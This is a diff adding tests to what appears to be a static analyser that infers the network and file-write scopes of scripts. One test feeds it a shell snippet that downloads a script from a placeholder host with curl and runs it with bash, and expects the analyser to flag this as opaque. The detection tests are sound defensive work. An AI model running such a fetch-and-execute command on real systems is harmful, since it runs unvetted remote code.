@@ -40,3 +40,19 @@ def test_what_is_split_by_the_script_itself_is_not_what_the_caller_gives(shell):
 def test_servers_that_names_are_asked_of(node):
     code = "const dns = require('dns');\nnew dns.Resolver().setServers(['192.0.2.3:53']);\n"
     assert node(code).scopes("net.connect") == {"192.0.2.3:53"}
+
+
+def test_a_file_in_a_folder_of_the_caller_that_the_skill_writes_is_not_the_callers(shell):
+    found = shell('curl -s https://a.example/x > "$1/x.sh"\nbash "$1/x.sh"\n')
+    assert found.opaque
+    assert not shell('bash "$1/x.sh"\n').opaque
+    assert not shell('echo x > "$1"\nbash "$2"\n').opaque
+
+
+def test_what_lies_beside_a_path_of_the_caller(python, shell):
+    code = "from pathlib import Path\nimport sys\np = Path(sys.argv[1])\n"
+    assert python(code + "p.with_suffix('.b').write_text('')\n").scopes("file.write") == {"<arg>/*.b"}
+    assert python(code + "(p.parent / 'a').write_text('')\n").scopes("file.write") == {"<arg>/a"}
+    assert python(code + "(p.parent.parent / 'a').write_text('')\n").scopes("file.write") == {"any"}
+    assert shell('mkdir -p "$(dirname "$1")"\n').scopes("file.write") == {"<arg>"}
+    assert shell('mkdir "$(dirname "$(dirname "$1")")"\n').scopes("file.write") == {"any"}
